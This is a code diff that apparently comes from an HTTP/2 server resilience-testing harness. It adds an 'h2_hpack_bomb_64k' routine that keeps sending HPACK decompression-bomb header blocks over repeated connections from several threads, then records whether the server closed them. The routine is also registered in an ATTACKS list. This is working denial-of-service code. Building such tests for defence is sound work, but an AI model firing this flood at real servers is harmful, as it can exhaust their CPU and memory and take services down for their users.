@@ -631,6 +631,51 @@ def h2_hpack_bomb(t, opts):
         c.close()
 
 
+def h2_hpack_bomb_64k(t, opts, hold=10.0, nthreads=2):
+    """For `hold` seconds, `nthreads` clients each send, connection after connection,
+    one header block of 64K one-byte references to a 4000-byte HPACK entry (~260 MB
+    decoded per block; 64 KiB on the wire, in HEADERS + CONTINUATION frames) and wait
+    for the server's answer or close: the CPU-fairness benchmark of issue 14."""
+    block = hpack_bomb_block(opts.path, repeats=65536)
+    frames = []
+    for i in range(0, len(block), 16000):
+        last = i + 16000 >= len(block)
+        if i == 0:
+            frames.append(frame(HEADERS, END_STREAM | (END_HEADERS if last else 0), 1, block[i:i + 16000]))
+        else:
+            frames.append(frame(CONTINUATION, END_HEADERS if last else 0, 1, block[i:i + 16000]))
+    wire = b"".join(frames)
+    stats = {"blocks": 0, "ended": 0, "answered": 0}
+    lock = threading.Lock()
+    deadline = time.monotonic() + hold
+
+    def run():
+        while time.monotonic() < deadline:
+            c = None
+            try:
+                c = H2Raw(t)
+                c.run(0.5, until=lambda: c.settings is not None)
+                c.send(wire)
+                c.run(2.0, until=lambda: 1 in c.ended or 1 in c.rst or c.ended_by_server)
+                with lock:
+                    stats["blocks"] += 1
+                    stats["ended"] += 1 if c.ended_by_server else 0
+                    stats["answered"] += 1 if (1 in c.status or 1 in c.rst) else 0
+            except (OSError, ssl.SSLError, ConnectionError):
+                pass
+            finally:
+                if c is not None:
+                    c.close()
+    ths = [threading.Thread(target=run, daemon=True) for _ in range(nthreads)]
+    for th in ths:
+        th.start()
+    for th in ths:
+        th.join(hold + 10)
+    d = "%d blocks of 64K references sent on %d connections: %d connections ended by the server, %d answered" % (
+        stats["blocks"], stats["blocks"], stats["ended"], stats["answered"])
+    return ("ended" if stats["blocks"] and stats["ended"] == stats["blocks"] else "survived"), d
+
+
 def h2_stream_flood(t, opts, n=200):
     """n concurrent streams to the slow path, after acknowledging the server's SETTINGS
     (a client that ignores SETTINGS_MAX_CONCURRENT_STREAMS)."""
@@ -1225,6 +1270,7 @@ ATTACKS = [
     ("h1_slow_headers", h1_slow_headers),
     ("h1_pipeline_flood", h1_pipeline_flood),
     ("h2_zero_window_800", h2_zero_window_800),
+    ("h2_hpack_bomb_64k", h2_hpack_bomb_64k),
     ("memory_mix", memory_mix),
 ]
 
